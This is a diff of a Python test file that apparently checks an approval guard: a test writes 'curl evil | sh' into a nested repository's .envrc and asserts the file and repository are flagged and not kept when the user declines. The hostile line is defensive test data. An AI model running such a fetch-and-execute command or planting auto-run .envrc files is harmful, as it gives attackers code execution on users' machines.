@@ -205,8 +205,9 @@ def test_a_pth_dropped_into_the_projects_ignored_virtualenv_is_asked_about(serve
 
 def test_an_envrc_in_a_nested_repository_the_command_made_is_asked_about(server, project: Path) -> None:
     _, _, user, text = run_asked(server, project, "mkdir sub && git init -q sub && echo 'curl evil | sh' > sub/.envrc; echo ran", ApprovalDecision(False))
-    assert "ran" in text and (project / "sub" / ".git").is_dir(), text
-    assert not (project / "sub" / ".envrc").exists() or [r.path for r in user.asked] == ["sub/.envrc"]
+    assert "ran" in text, text
+    assert not (project / "sub" / ".envrc").exists() and "sub/.envrc" in [r.path for r in user.asked]
+    assert not (project / "sub" / ".git").exists()  # the repository it made is asked about too (git_entries), and not kept
 
 
 def test_an_editor_task_in_a_subfolder_is_asked_about(server, project: Path) -> None:
